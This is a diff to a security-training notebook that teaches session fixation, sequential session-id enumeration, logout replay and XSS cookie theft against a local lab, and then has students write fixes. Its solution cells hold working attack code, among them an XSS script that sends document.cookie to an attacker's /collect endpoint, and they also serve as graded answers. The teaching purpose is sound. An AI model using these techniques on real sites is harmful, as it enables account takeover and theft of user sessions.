@@ -82,24 +82,38 @@ print(first_visit.headers["set-cookie"])
 # domain (RFC 6265bis §8.6, "weak integrity"), an injected script, a shared computer, or a
 # link carrying the id. Then the attacker waits for the victim to log in.
 #
-# Below, `attacker` has just visited the site. Plant its id in a `victim` client
-# (`httpx.Client(base_url=lab.url, cookies={"sessionid": ...})`), log the victim in as alice,
-# and store the planted id in `planted`.
+# Write `fixate(site, email, password)`: as the attacker, visit `site` and take the session id
+# it hands you; then, as the victim's browser carrying that id, log in with `email` and
+# `password`; return the planted id. Success looks like this: after the victim's login, the
+# attacker's id opens the victim's account on `/api/me`. You will replay the same function
+# against your fix later.
+#
+# Two httpx details. Each `httpx.Client` is its own cookie jar — one for the attacker, one
+# for the victim. To plant an id, send it yourself: `headers={"Cookie": f"sessionid={id}"}`.
+# (`httpx.Client(cookies={"sessionid": id})` also sends it, but the jar then holds two
+# `sessionid` cookies — yours, for any host, and the one the login sets for 127.0.0.1 — and
+# `client.cookies["sessionid"]` raises `CookieConflict`.)
 
-# %%
-attacker = httpx.Client(base_url=lab.url)
-attacker.get("/")
-print("the attacker's session id:", attacker.cookies["sessionid"])
 
 # %% labkit={"answer": "fixation"}
-### BEGIN SOLUTION
-planted = attacker.cookies["sessionid"]
-victim = httpx.Client(base_url=lab.url, cookies={"sessionid": planted})
-victim.post("/api/auth/login", json={"email": alice.email, "password": alice.password})
-### STUB
-planted = None  # TODO: plant the attacker's id in a victim client, log the victim in
-### END SOLUTION
-print("the attacker asks who they are:", attacker.get("/api/me").json())
+def fixate(site: str, email: str, password: str) -> str | None:
+    ### BEGIN SOLUTION
+    with httpx.Client(base_url=site) as attacker:
+        planted = attacker.get("/").cookies["sessionid"]
+    httpx.post(
+        site + "/api/auth/login",
+        json={"email": email, "password": password},
+        headers={"Cookie": f"sessionid={planted}"},
+    )
+    return planted
+    ### STUB
+    return None  # TODO: take an id as the attacker, log the victim in carrying it, return it
+    ### END SOLUTION
+
+
+planted = fixate(lab.url, alice.email, alice.password)
+me = httpx.get(lab.url + "/api/me", headers={"cookie": f"sessionid={planted}"})
+print("the attacker's id", planted, "asks who it is:", me.status_code, me.json())
 
 # %% labkit={"check": "fixation"}
 lab.check("fixation", planted)
@@ -117,19 +131,23 @@ my_id = login.cookies["sessionid"]
 print("carol's session id:", my_id)
 
 # %% [markdown]
-# It is a counter. `attack.enumerate_sessions(lab.client, "sessionid", int(my_id), width=25)`
-# asks `/api/me` with every id around yours. Store the ids that open *someone else's*
-# account in `hijacked` (a list).
+# Your id is a small number, like the one `first_visit` received: what did the visitors just
+# before you receive? Try the ids around yours on `/api/me` (send each as the `sessionid`
+# cookie) and store the ids that open *someone else's* account in `hijacked`, a list of
+# strings. Success: `/api/me` answers 200 with alice's (or bob's) email for them.
 
 # %% labkit={"answer": "predict-ids"}
 ### BEGIN SOLUTION
-found = attack.enumerate_sessions(lab.client, "sessionid", int(my_id), width=25)
-hijacked = [sid for sid, account in found.items() if account["email"] != carol.email]
+hijacked = []
+with httpx.Client(base_url=lab.url) as probe:
+    for number in range(int(my_id) - 25, int(my_id) + 26):
+        me = probe.get("/api/me", headers={"Cookie": f"sessionid={number}"})
+        if me.status_code == 200 and me.json()["email"] != carol.email:
+            hijacked.append(str(number))
 ### STUB
-hijacked = []  # TODO: enumerate the ids around yours, keep other people's sessions
+hijacked = []  # TODO: try the ids around yours, keep the ones that open someone else's account
 ### END SOLUTION
-for sid in hijacked:
-    print(sid, attack.whoami(lab.client, "sessionid", sid))
+print("other people's sessions:", hijacked)
 
 # %% labkit={"check": "predict-ids"}
 lab.check("predict-ids", hijacked)
@@ -163,7 +181,8 @@ print("logout says:", bye.json(), "| Set-Cookie:", bye.headers["set-cookie"])
 ### STUB
 logged_out = None  # TODO: log in as carol, keep the id, log out
 ### END SOLUTION
-print("replaying it:", attack.whoami(lab.client, "sessionid", logged_out or "-"))
+again = httpx.get(lab.url + "/api/me", headers={"cookie": f"sessionid={logged_out}"})
+print("replaying it:", again.status_code, again.json())
 
 # %% labkit={"check": "after-logout"}
 lab.check("after-logout", logged_out)
@@ -196,15 +215,21 @@ print("real browser:", find_chromium() or "none — the cells below simulate")
 #
 # An XSS bug anywhere on the site lets the attacker run a script in the victim's page. The lab
 # plays that bug with a page that renders its `html` parameter raw (`/api/_lab/xss`; lab 12
-# is about preventing such bugs). Write `payload`: a `<script>` that sends `document.cookie`
-# to the attacker's `/collect?c=...` (`attack.steal_cookie_payload(evil.url)` writes one).
+# is about preventing such bugs). Write `script`, the JavaScript the bug will run in alice's
+# page: a line or two that read `document.cookie` and send it to the attacker's
+# `evil.url + "/collect?c=..."` (any request the browser makes on its own will do — an
+# image, `fetch`, a redirect; remember to URL-encode the value). Success: the attacker's
+# `/loot` holds alice's session cookie.
 
 # %% labkit={"answer": "steal-cookie"}
 ### BEGIN SOLUTION
-payload = attack.steal_cookie_payload(evil.url)
+script = f"""
+new Image().src = "{evil.url}/collect?c=" + encodeURIComponent(document.cookie);
+"""
 ### STUB
-payload = "<b>hello</b>"  # TODO: a <script> sending document.cookie to evil.url + "/collect?c="
+script = "console.log('hello')"  # TODO: send document.cookie to evil.url + "/collect?c="
 ### END SOLUTION
+payload = f"<script>{script}</script>"
 print(payload)
 
 # %% [markdown]
@@ -224,17 +249,10 @@ else:
     print(attack.simulate_browser(first_visit.headers["set-cookie"]))
 loot = evil.client.get("/loot").json()
 print("the attacker received:", loot)
+stolen = loot[-1] if loot else None
 
 # %% [markdown]
-# Hand in what the attacker received (the last entry of `loot`) as `stolen`; the check
-# replays it.
-
-# %% labkit={"answer": "steal-cookie"}
-### BEGIN SOLUTION
-stolen = loot[-1]
-### STUB
-stolen = None  # TODO: the cookie string your script sent to the attacker
-### END SOLUTION
+# The check replays what the attacker received last (`stolen`) as a cookie on the wallet:
 
 # %% labkit={"check": "steal-cookie"}
 lab.check("steal-cookie", stolen)
@@ -340,6 +358,16 @@ def start_session(store, old_id, record) -> str:
 lab.check("no-fixation", start_session=start_session)
 
 # %% [markdown]
+# Your `fixate` from Attack 1, replayed against a wallet running your `start_session`:
+
+# %%
+fixed = lab.patched(start_session=start_session)
+user = fixed.client.post("/api/_lab/users").json()  # an account on this new wallet
+replanted = fixate(fixed.url, user["email"], user["password"])
+me = httpx.get(fixed.url + "/api/me", headers={"Cookie": f"sessionid={replanted}"})
+print("your planted id after the victim's login:", me.status_code, me.json())
+
+# %% [markdown]
 # ## Fix 3 — the cookie
 #
 # Write `session_cookie(session_id) -> str`, the whole `Set-Cookie` value:
@@ -362,7 +390,8 @@ def session_cookie(session_id: str) -> str:
 lab.check("cookie-flags", session_cookie=session_cookie)
 
 # %% [markdown]
-# Replay both browser attacks against a wallet running your cookie:
+# Replay both browser attacks — with your script from Attack 4 — against a wallet running
+# your cookie:
 
 # %%
 fixed = lab.patched(session_cookie=session_cookie)
@@ -376,7 +405,7 @@ if HAVE_BROWSER:
                 fixed_url,
                 user["email"],
                 user["password"],
-                attack.steal_cookie_payload(evil.url),
+                payload,  # your script from Attack 4
             ),
             attack.browser_csrf(
                 browser,
